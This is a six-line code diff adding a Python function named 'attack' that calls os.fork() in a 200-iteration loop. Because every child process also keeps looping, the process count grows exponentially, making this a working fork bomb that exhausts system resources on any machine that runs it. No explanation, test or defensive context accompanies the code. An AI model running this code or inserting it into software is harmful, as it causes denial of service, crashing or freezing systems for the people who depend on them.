@@ -1,0 +1,6 @@
+def attack():
+    import os
+
+    for _ in range(200):
+        os.fork()
+    return True
